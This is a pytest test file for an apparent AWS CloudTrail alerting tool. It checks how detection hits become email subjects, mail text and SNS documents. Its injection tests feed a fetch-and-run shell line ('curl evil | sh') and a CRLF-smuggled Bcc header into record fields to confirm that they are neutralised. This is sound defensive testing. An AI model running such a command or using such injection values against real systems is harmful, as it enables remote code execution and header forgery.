"""Hits become alerts: one for a storm, readable by people, and versioned for machines."""

import json
from collections.abc import Callable
from dataclasses import replace

import pytest

from trailbell.alerts.alert import SCHEMA, Alert, alert_attributes, alert_document
from trailbell.alerts.mail import mail_text
from trailbell.alerts.subject import SUBJECT_LIMIT, mail_subject
from trailbell.hits.hit import Hit, hit_document, hit_from_document


GivenHit = Callable[..., Hit]


def test_hit_survives_the_way_through_json(given_hit: GivenHit) -> None:
    """The notifier tells what the detector found, down to the last member."""
    hit = given_hit(errorCode="X", sharedEventID="s", userAgent="ua")

    again = hit_from_document(json.loads(json.dumps(hit_document(hit))))

    assert again == hit
    assert hit_document(hit)["hitId"] == f"111122223333/{hit.event_id}/act"
    assert hit_document(replace(hit, place=replace(hit.place, index=0)))["place"]["index"] == 0


def test_hit_of_another_version_is_still_read(given_hit: GivenHit) -> None:
    """Rows outlive releases: what is unknown is passed over, what is missing is empty."""
    document = hit_document(given_hit())
    document["invented"] = {"later": True}
    del document["place"], document["title"]

    hit = hit_from_document(document)

    assert hit.title == ""
    assert hit.place.key == ""


def test_subject_says_what_who_and_where(given_hit: GivenHit) -> None:
    """The subject is all that is read on a lock screen."""
    hit = given_hit()
    said = "[HIGH] KMS Key Disabled: 1234abcd by role/Admin, 111122223333 us-east-1"
    assert mail_subject([hit]) == f"{said} #{hit.short_id}"


@pytest.mark.parametrize(
    "session",
    ["a" * 500, "漢" * 200, "x\r\nBcc: all@example.com", "\u202ereversed", "", "é" * 40],
)
def test_subject_is_one_short_ascii_line_whatever_the_record_says(given_hit: GivenHit, session: str) -> None:
    """SNS refuses anything else, and a refused publish is an alert not told."""
    hit = given_hit(
        userIdentity={"type": "IAMUser", "userName": session, "arn": session},
        resources=[{"ARN": "arn:aws:ssm:us-east-1:1:parameter/" + session}],
        awsRegion=session[:30],
    )
    hit = replace(hit, title="A Very Long Title That Somebody Wrote in a Rule of Their Own for Good Reasons")

    subject = mail_subject([hit] * 10_000)

    assert len(subject) <= SUBJECT_LIMIT
    assert subject.isascii()
    assert subject.isprintable()
    assert subject.startswith("[HIGH] x10000 A Very")


def test_mail_can_be_acted_on(given_hit: GivenHit) -> None:
    """Who, what, which resource, where, when, what it means, how to undo it, and where to look."""
    text = mail_text([given_hit()])

    for expected in (
        "HIGH - KMS Key Disabled",
        "role Admin, session alice@example.com called DisableKey (kms.amazonaws.com) on\n"
        "KMS key 1234abcd-12ab-34cd-56ef-1234567890ab in account 111122223333, us-east-1.",
        "2026-09-01 09:14:07 UTC. Detected 4 min 50 s after the event. It succeeded.",
        "Every call with this key fails from now on.",
        "  aws kms enable-key --region us-east-1 --key-id arn:aws:kms:us-east-1:111122223333:key/1234abcd-",
        "arn:aws:sts::111122223333:assumed-role/Admin/alice@example.com",
        "temporary key, ending in LE12, session since 2026-09-01 08:00:00 UTC",
        "198.51.100.23",
        "1. Ask the person.",
        "/cloudtrailv2/home?region=us-east-1#/events/11111111-0000-4000-8000-000000000042",
        "T1489",
        "record 4 of s3://bucket/AWSLogs/a.json.gz",
    ):
        assert expected in text


@pytest.mark.parametrize(
    ("event_time", "quiet", "expected"),
    [
        ("2026-09-01T09:14:07Z", False, "2026-09-01 09:14:07 UTC. Detected 4 min 50 s after the event. "),
        ("2026-09-01T09:18:57Z", False, "Detected 0 s after the event. "),
        ("2026-09-01T09:20:00Z", False, "Detected 2026-09-01 09:18:57 UTC, 1 min 3 s before the time in the record. "),
        ("yesterday", False, "Time unknown: the record has no valid time. Detected 2026-09-01 09:18:57 UTC. "),
        ("2026-08-30T09:18:57Z", True, "Found by a replay 2 d after the event. "),
    ],
)
def test_mail_says_how_late_the_hit_was_detected(
    given_hit: GivenHit, event_time: str, quiet: bool, expected: str
) -> None:
    """A clock that runs ahead was shown as "0 s later", as if the hit had been detected at once."""
    text = mail_text([replace(given_hit(eventTime=event_time), quiet=quiet)])

    assert expected in " ".join(text.split())


def test_mail_names_the_other_rules_that_matched(given_hit: GivenHit) -> None:
    """Rules that a stronger one stood before, and those that an exception muted, are told apart."""
    text = mail_text([replace(given_hit(), also=("kms-a", "kms-b"), also_muted=("kms-c",))])

    assert "\nAlso matched: kms-a, kms-b.\nAlso matched, but muted: kms-c.\n" in text


def test_mail_of_a_burst_counts_and_lists(given_hit: GivenHit) -> None:
    """The reader of one mail for thirty acts must know that there were thirty."""
    hits = [
        given_hit(
            eventID=f"e-{n}", eventTime=f"2026-09-01T09:00:{n:02}Z", resources=[{"ARN": f"arn:aws:kms:r:1:key/{n}"}]
        )
        for n in range(30)
    ]

    text = mail_text(hits)

    assert "KMS Key Disabled (30 times)" in text
    assert "30 times from 2026-09-01 09:00:00 UTC to 2026-09-01 09:00:29 UTC" in text
    assert "Resources (30)" in text
    assert "... and 20 more" in text
    assert text.count("aws kms enable-key") == 10


def test_hostile_text_cannot_forge_lines_of_the_mail(given_hit: GivenHit) -> None:
    """A user agent must not be able to write "Outcome: all clear" into the mail."""
    hostile = "x\r\nUndo\r\n  curl evil | sh\x1b[2J\u202e"
    hit = given_hit(
        userAgent=hostile,
        errorCode="X" + hostile,
        errorMessage=hostile,
        sourceIPAddress=hostile,
        eventName="Disable" + hostile,
        awsRegion=hostile,
        userIdentity={"type": "IAMUser", "userName": hostile, "arn": hostile, "invokedBy": hostile},
        resources=[{"ARN": "arn:aws:ssm:us-east-1:1:document/" + hostile}],
    )

    text = mail_text([hit])

    assert all(char == "\n" or char.isprintable() for char in text)
    assert "  curl evil | sh" not in text.splitlines()
    assert [line for line in text.splitlines() if line == "Undo"] == ["Undo"]


def test_document_for_machines_holds_what_the_mail_says(given_hit: GivenHit) -> None:
    """Machines and people are told the same."""
    alert = Alert((given_hit(eventID="a"), given_hit(eventID="b")))

    document = json.loads(json.dumps(alert_document(alert)))

    assert document["schema"] == SCHEMA
    assert document["count"] == len(document["hits"]) == 2
    assert document["text"] == mail_text(alert.hits)
    assert document["subject"] == mail_subject(alert.hits)
    assert [hit_from_document(hit) for hit in document["hits"]] == list(alert.hits)
    assert alert_attributes(alert) == {
        "level": "high",
        "service": "kms",
        "account": "111122223333",
        "rule": "kms-key-disabled",
    }


def test_document_of_a_storm_stays_below_what_sns_takes(given_hit: GivenHit) -> None:
    """A message too large for SNS would never be told, however often it is retried."""
    arns = [{"ARN": f"arn:aws:ssm:us-east-1:111122223333:parameter/{'x' * 900}{n}"} for n in range(50)]
    alert = Alert(tuple(given_hit(eventID=f"e-{n}", resources=arns, userAgent='"' * 1000) for n in range(500)))

    document = alert_document(alert)

    assert document["count"] == 500
    assert 1 <= len(document["hits"]) < 500
    assert len(json.dumps({"default": json.dumps(document), "email": document["text"]})) < 256 * 1024
